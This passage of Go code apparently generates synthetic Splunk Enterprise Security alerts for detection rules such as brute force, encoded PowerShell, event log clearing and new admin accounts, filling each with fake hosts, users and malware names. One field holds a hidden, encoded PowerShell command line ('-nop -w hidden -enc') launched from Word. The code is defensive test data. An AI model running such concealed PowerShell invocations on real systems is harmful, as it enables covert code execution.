			row["src"], row["dest"], row["user"], row["app"] = g.externalIP(), host.name, g.user(), pick(g.r, []string{"sshd", "openvpn", "dovecot"})
			row["count"] = strconv.Itoa(6 + g.r.IntN(200))
		}},
	{w: 2, search: "Access - Brute Force Access Behavior Detected - Rule", rule: "Brute Force Access Behavior Detected", urgency: "high", domain: "access",
		description: "Detects excessive number of failed login attempts along with a successful attempt (this could indicate a successful brute force attack).",
		mitre:       []string{"T1110.001"}, tags: []string{"authentication"},
		fill: func(g *gen, row doc) {
			host := g.serverOf("vpn-gw", "bastion")
			row["src"], row["dest"], row["user"], row["app"] = g.externalIP(), host.name, g.user(), "sshd"
			row["failure"], row["success"] = strconv.Itoa(20+g.r.IntN(300)), "1"
		}},
	{w: 2, search: "Threat - Threat List Activity - Rule", rule: "Threat Activity Detected", urgency: "high", domain: "threat",
		description: "Alerts when any activity matching threat intelligence is detected.",
		mitre:       []string{"T1071"}, tags: []string{"network", "communicate"},
		fill: func(g *gen, row doc) {
			host := g.workstation()
			row["src_ip"], row["dest_ip"], row["dest_port"], row["host"] = host.ip, g.externalIP(), "443", host.name
			row["threat_collection"], row["threat_match_field"] = "ip_intel", "dest"
		}},
	{w: 2, search: "ESCU - Malicious PowerShell Process - Encoded Command - Rule", rule: "Malicious PowerShell Process - Encoded Command", urgency: "high", domain: "endpoint",
		description: "Identifies the use of the EncodedCommand PowerShell parameter, which is often used by attackers to hide their commands.",
		mitre:       []string{"T1027"}, tags: []string{"process", "report", "execute"},
		fill: func(g *gen, row doc) {
			host := g.windowsHost()
			row["dest"], row["user"], row["process_name"] = host.name, adDomain+`\`+g.userOf(host), "powershell.exe"
			row["process"] = "powershell.exe -nop -w hidden -enc " + encodedCommand(g)
			row["parent_process_name"] = pick(g.r, []string{"cmd.exe", "WINWORD.EXE", "wmiprvse.exe"})
		}},
	{w: 1, search: "Endpoint - High Number Of Infected Hosts - Rule", rule: "High Number Of Infected Hosts", urgency: "critical", domain: "endpoint",
		description: "Alerts when a high number of hosts are infected with the same infection.",
		tags:        []string{"malware", "attack"},
		fill: func(g *gen, row doc) {
			row["signature"] = pick(g.r, []string{"Trojan:Win32/Wacatac.B!ml", "Trojan:Win32/Emotet.PDF!MTB", "Backdoor:Win32/Qakbot!ms"})
			row["dest_count"] = strconv.Itoa(12 + g.r.IntN(30))
			row["file_hash"] = knownHash(row["signature"].(string))
		}},
	{w: 2, search: "Identity - Activity from Expired User Identity - Rule", rule: "Activity from Expired User Identity", urgency: "medium", domain: "identity",
		description: "Alerts when an event is discovered from a user associated with identity that is now expired.",
		tags:        []string{"authentication"},
		fill: func(g *gen, row doc) {
			host := g.workstation()
			row["user"], row["src"], row["dest"] = g.user(), host.ip, g.serverOf("FS", "SQL-FIN", "EXCH").name
		}},
	{w: 4, search: "Network - Substantial Increase in Port Activity (By Destination) - Rule", rule: "Substantial Increase in Port Activity", urgency: "low", domain: "network",
		description: "Alerts when a statistically significant increase in events on a given port is observed.",
		tags:        []string{"network", "communicate"},
		fill: func(g *gen, row doc) {
			row["dest_port"] = pick(g.r, []string{"445", "3389", "22", "5985", "1433"})
			row["count"] = strconv.Itoa(2000 + g.r.IntN(20000))
			row["src_ip"] = g.workstation().ip
		}},
	{w: 4, search: "Access - Insecure Or Cleartext Authentication - Rule", rule: "Insecure Or Cleartext Authentication Detected", urgency: "low", domain: "access",
		description: "Alerts when an authentication is detected that uses cleartext or an insecure protocol.",
		tags:        []string{"authentication"},
		fill: func(g *gen, row doc) {
			host := g.server()
			row["app"], row["user"], row["src_ip"], row["dest"] = pick(g.r, []string{"ftp", "telnet", "http_basic", "pop3"}), g.serviceAccount(), g.workstation().ip, host.name
		}},
	{w: 1, search: "ESCU - Windows Event Log Cleared - Rule", rule: "Windows Event Log Cleared", urgency: "high", domain: "endpoint",
		description: "Detects the clearing of Windows event logs, which adversaries do to hide their tracks.",
		mitre:       []string{"T1070.001"}, tags: []string{"change", "audit"},
		fill: func(g *gen, row doc) {
			host := g.windowsHost()
			row["dest"], row["user"], row["EventCode"] = host.name, g.userOf(host), pick(g.r, []string{"1102", "104"})
		}},
	{w: 2, search: "ESCU - Detect New Local Admin account - Rule", rule: "Detect New Local Admin account", urgency: "medium", domain: "endpoint",
		description: "Detects new local accounts added to the Administrators group.",
		mitre:       []string{"T1136.001", "T1078"}, tags: []string{"account", "change"},
		fill: func(g *gen, row doc) {
			host := g.windowsHost()
			row["dest"], row["user"], row["src_user"] = host.name, "support_"+g.hex(2), g.userOf(host)
		}},
	{w: 3, search: "Audit - Anomalous Audit Trail Activity Detected - Rule", rule: "Anomalous Audit Trail Activity Detected", urgency: "informational", domain: "audit",
		description: "Discovers anomalous activity such as the deletion of or clearing of log files.",
		tags:        []string{"audit"},
		fill: func(g *gen, row doc) {
			row["dest"] = g.server().name
			row["signature"] = pick(g.r, []string{"Audit log cleared", "Audit policy changed", "Log file truncated"})
		}},
	{w: 3, search: "Web - Abnormally High Number of HTTP Method Events By Src - Rule", rule: "Abnormally High Number of HTTP Method Events By Src", urgency: "medium", domain: "network",
		description: "Alerts when a host has an abnormally high number of HTTP requests by http method.",
		mitre:       []string{"T1190"}, tags: []string{"web"},
		fill: func(g *gen, row doc) {
			row["src"], row["dest"], row["http_method"] = g.externalIP(), g.serverOf("web-prod").name, pick(g.r, []string{"POST", "PUT", "OPTIONS"})
			row["url"] = "https://www." + mailDomain + "/" + pick(g.r, []string{"login", "api/v1/auth", "xmlrpc.php", "search"})
			row["count"] = strconv.Itoa(500 + g.r.IntN(5000))
		}},
}

func splunkNotable(g *gen, at time.Time) doc {
	s := choose(g.r, splunkSearches)
	sid := fmt.Sprintf("scheduler__admin__SplunkEnterpriseSecuritySuite__RMD5%s_at_%d_%d", g.hex(8), at.Unix(), g.r.IntN(10000))
	row := doc{
		"_time":            fmt.Sprintf("%d.000", at.Unix()),
		"search_name":      s.search,
		"rule_name":        s.rule,
		"rule_description": s.description,
		"urgency":          s.urgency,
		"severity":         s.urgency,
		"security_domain":  s.domain,
		"status":           "1",
		"owner":            "unassigned",
		"event_id":         strings.ToUpper(g.uuid()) + "@@notable@@" + g.hex(16),
		"orig_action_name": "notable",
		"tag":              s.tags,
	}
	if s.mitre != nil {
		row["annotations.mitre_attack"] = s.mitre
	}
	s.fill(g, row)
	return doc{
		"result":       row,
		"sid":          sid,
		"results_link": "https://splunk." + dnsSuffix + ":8000/app/SplunkEnterpriseSecuritySuite/@go?sid=" + sid,
		"search_name":  s.search,
		"owner":        "admin",
		"app":          "SplunkEnterpriseSecuritySuite",
	}
}
